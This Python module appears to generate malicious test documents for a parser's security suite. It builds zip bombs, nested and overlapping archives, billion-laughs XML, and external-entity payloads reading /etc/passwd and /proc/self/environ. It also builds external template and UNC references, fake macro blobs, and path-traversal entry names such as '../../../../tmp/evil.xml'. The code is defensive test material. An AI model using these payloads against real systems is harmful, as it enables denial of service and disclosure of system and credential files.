"""Office files, books and archives that unpack to too much, nest too deep, or reach for what is not theirs."""

from __future__ import annotations

import functools
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from cli import demo_documents as demo
from tests import documents

_ODF = "urn:oasis:names:tc:opendocument:xmlns"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_SAYS = f"{documents.KNEE}."


def archive(parts: dict[str, bytes | str], *, stored: bool = False) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as packed:
        for name, body in parts.items():
            packed.writestr(name, body, zipfile.ZIP_STORED if name == "mimetype" else None)
    return file.getvalue()


def unpacked(data: bytes) -> dict[str, bytes | str]:
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def epub() -> bytes:
    """One chapter."""
    container = (
        f'<container xmlns="{_ODF}:container" version="1.0"><rootfiles>'
        '<rootfile full-path="b.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    book = (
        '<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><manifest>'
        '<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="c"/></spine></package>'
    )
    chapter = f'<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>Surgery</h1><p>{_SAYS}</p></body></html>'
    kind = {"mimetype": "application/epub+zip"}
    return archive(kind | {"META-INF/container.xml": container, "b.opf": book, "c.xhtml": chapter})


def word(body: str, head: str = "", **more: bytes | str) -> bytes:
    """A Word document around `body`; `head` stands before its root, `more` are parts with `__` for a slash."""
    parts = unpacked(demo.docx([("", "")]))
    parts["word/document.xml"] = f'<?xml version="1.0"?>{head}<w:document {_W}><w:body>{body}</w:body></w:document>'
    return archive(parts | {name.replace("__", "/"): content for name, content in more.items()})


def said(text: str = _SAYS) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def sheet(rows: str) -> bytes:
    """A workbook with one sheet."""
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    content = f'<?xml version="1.0"?><worksheet {main}><sheetData>{rows}</sheetData></worksheet>'
    return archive(unpacked(demo.xlsx({"S": [[""]]})) | {"xl/worksheets/sheet1.xml": content})


def open_document(body: str, kind: str = "text") -> bytes:
    """A text or a spreadsheet."""
    names = " ".join(f'xmlns:{n}="{_ODF}:{n}:1.0"' for n in ("office", "text", "table"))
    inside = f"<office:body><office:{kind}>{body}</office:{kind}></office:body>"
    content = f'<?xml version="1.0"?><office:document-content {names}>{inside}</office:document-content>'
    media = f"application/vnd.oasis.opendocument.{kind}"
    entry = f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{media}"/>'
    manifest = f'<manifest:manifest xmlns:manifest="{_ODF}:manifest:1.0">{entry}</manifest:manifest>'
    return archive({"mimetype": media, "content.xml": content, "META-INF/manifest.xml": manifest})


# Too much ----------------------------------------------------------------


@functools.cache
def bomb(honest: bool) -> bytes:
    return documents.zip_bomb_docx(honest=honest)


@functools.cache
def nested() -> bytes:
    """Archives in an archive, five deep, ten in each."""
    inner = archive({"0.txt": bytes(1_000_000)})
    for _ in range(5):
        inner = archive({f"{n}.zip": inner for n in range(10)})
    return inner


@functools.cache
def overlapping(entries: int) -> bytes:
    """A directory whose entries are all the same bytes: what is unpacked grows with its length alone."""
    body = zlib.compress(bytes(10_000_000), 9)[2:-4]
    name = b"word/document.xml"
    sizes = len(body), 10_000_000, len(name)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, *sizes, 0) + name + body
    central = b"".join(
        struct.pack("<4sHHHHHHIIIH", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(body), 100, len(own)) + bytes(16) + own
        for own in (b"word/%d.xml" % n if n else name for n in range(entries))
    )
    count = entries & 0xFFFF
    return local + central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), len(local), 0)


def zip_bomb(rng: random.Random) -> tuple[str, bytes]:
    match rng.randrange(4):
        case 0:
            return "docx", bomb(True)
        case 1:
            return "docx", bomb(False)
        case 2:
            return "docx", overlapping(500)
        case _:
            return "docx", overlapping(60_000)


def nested_zip(rng: random.Random) -> tuple[str, bytes]:
    if rng.random() < 0.5:
        return "zip", nested()
    return "docx", word(said(), word__embeddings__inside="PK", word__embeddings__a_zip=nested())


def many_entries(rng: random.Random) -> tuple[str, bytes]:
    return "docx", word(said(), **{f"word__media__{n}.xml": "<a/>" for n in range(rng.choice([3000, 20_500]))})


def laughs(rng: random.Random) -> tuple[str, bytes]:
    """A billion laughs, and its quadratic brother, in whatever is XML."""
    if rng.random() < 0.5:
        lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
        kind = f'<!DOCTYPE x [<!ENTITY l0 "laugh">{lines}]>'
        use = "&l9;"
    else:
        kind = f'<!DOCTYPE x [<!ENTITY l9 "{"laugh" * 20_000}">]>'
        use = "&l9;" * 10_000
    return _in_any_xml(rng, kind, use)


def outside(rng: random.Random, canary: str) -> tuple[str, bytes]:
    """Entities that stand for a file of the machine, or for a page elsewhere."""
    system = rng.choice(["file:///etc/passwd", "/etc/passwd", canary, "file:///proc/self/environ"])
    kind = rng.choice(
        [
            f'<!DOCTYPE x [<!ENTITY out SYSTEM "{system}">]>',
            f'<!DOCTYPE x SYSTEM "{canary}x.dtd">',
            f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{canary}p.dtd"> %p; <!ENTITY out "x">]>',
        ]
    )
    return _in_any_xml(rng, kind, "&out;")


def _in_any_xml(rng: random.Random, kind: str, use: str) -> tuple[str, bytes]:
    match rng.randrange(4):
        case 0:
            return "docx", word(said(use) + said(), kind)
        case 1:
            content = open_document(f"<text:p>{use} {_SAYS}</text:p>")
            return "odt", _with_head(content, "content.xml", kind)
        case 2:
            rows = f'<row r="1"><c t="inlineStr" r="A1"><is><t>{use}</t></is></c></row>'
            return "xlsx", _with_head(sheet(rows), "xl/worksheets/sheet1.xml", kind)
        case _:
            return "epub", _with_head(epub(), "c.xhtml", kind, ("<p>", f"<p>{use}"))


def _with_head(data: bytes, name: str, head: str, change: tuple[str, str] = ("", "")) -> bytes:
    """`data` with `head` before the root of a part, and with one change in it."""
    parts = unpacked(data)
    body = parts[name]
    text = (body.decode() if isinstance(body, bytes) else body).removeprefix('<?xml version="1.0"?>')
    text = text.replace(change[0], change[1], 1) if change[0] else text
    return archive(parts | {name: f'<?xml version="1.0"?>{head}{text}'})


def deep_xml(rng: random.Random) -> tuple[str, bytes]:
    depth = rng.choice([300, 5000, 200_000])
    match rng.randrange(3):
        case 0:
            table = "<w:tbl><w:tr><w:tc>"
            return "docx", word(table * depth + said() + "</w:tc></w:tr></w:tbl>" * depth)
        case 1:
            return "odt", open_document(
                "<text:section>" * depth + f"<text:p>{_SAYS}</text:p>" + "</text:section>" * depth
            )
        case _:
            return "epub", _with_head(epub(), "c.xhtml", "", ("<p>", "<div>" * depth + "<p>"))


def repeated_cells(rng: random.Random) -> tuple[str, bytes]:
    """A few bytes that say that a cell stands there a billion times, or at the far end of the sheet."""
    many = rng.choice([16_384, 1_048_576, 10**9])
    match rng.randrange(4):
        case 0:
            cell = f'<table:table-cell table:number-columns-repeated="{many}"><text:p>x</text:p></table:table-cell>'
            row = f'<table:table-row table:number-rows-repeated="{many}">{cell}</table:table-row>'
            return "ods", open_document(f"<table:table>{row}</table:table>", "spreadsheet")
        case 1:
            last = min(many, 1_048_576)
            return "xlsx", sheet(f'<row r="{last}"><c r="XFD{last}"><v>500</v></c></row>')
        case 2:
            return "xlsx", sheet('<row r="1">' + '<c r="A1" t="s"><v>99999999</v></c>' * 1000 + "</row>")
        case _:
            cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{many}"/></w:tcPr>{said()}</w:tc>'
            return "docx", word(f"<w:tbl><w:tr>{cell}</w:tr><w:tr>{cell}</w:tr></w:tbl>")


# Reaching out ------------------------------------------------------------


def references(rng: random.Random, canary: str) -> tuple[str, bytes]:
    """Templates, pictures and objects that a reader would fetch."""
    kind = rng.choice(["attachedTemplate", "image", "oleObject", "frame", "hyperlink", "subDocument"])
    target = rng.choice([canary + kind, "file:///etc/passwd", "\\\\127.0.0.1\\share\\x", "../../../../etc/passwd"])
    base = "http://schemas.openxmlformats.org"
    relation = f'Id="r9" Type="{base}/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"'
    relations = f'<Relationships xmlns="{base}/package/2006/relationships"><Relationship {relation}/></Relationships>'
    names = f'xmlns:r="{base}/officeDocument/2006/relationships"'
    used = f'<w:p><w:hyperlink {names} r:id="r9"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>'
    return "docx", word(said() + used, **{"word___rels__document.xml.rels": relations})


def macros(rng: random.Random) -> tuple[str, bytes]:
    project = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(5000)
    control = b"MZ" + rng.randbytes(500)
    parts = {"word__vbaProject.bin": project, "word__activeX__a.bin": control}
    return rng.choice(["docm", "docx"]), word(said(), **parts)


def strange_names(rng: random.Random) -> tuple[str, bytes]:
    names = ["../../../../tmp/evil.xml", "/etc/evil", "C:\\evil.exe", "a" * 60_000, "con", "word/document.xml/"]
    return "docx", word(said(), **{rng.choice([*names, "\u202efdp.xml"]): "<evil/>", "word__document2.xml": "<a/>"})


_PLAIN: tuple[Callable[[random.Random], tuple[str, bytes]], ...] = (
    zip_bomb, nested_zip, many_entries, laughs, deep_xml, repeated_cells, macros, strange_names,
)  # fmt: skip


def makers(canary: str) -> dict[str, Callable[[random.Random], tuple[str, bytes]]]:
    """By what each is called; `canary` is an address that nobody may ask for anything."""
    found = {make.__name__.replace("_", " "): make for make in _PLAIN}
    return found | {
        "external entities": lambda rng: outside(rng, canary),
        "external references": lambda rng: references(rng, canary),
    }
